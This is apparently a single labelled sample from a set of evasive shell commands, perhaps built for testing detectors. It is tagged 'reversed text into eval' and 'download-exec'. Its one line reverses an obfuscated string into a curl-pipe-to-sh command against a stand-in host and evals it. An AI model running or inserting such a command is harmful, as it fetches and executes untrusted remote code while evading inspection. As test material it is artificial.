# evasion: reversed text into eval
# grade: hard; does: download-exec
eval "$(echo 'hs | i/elpmaxe.x//:sptth s- lruc' | rev)"
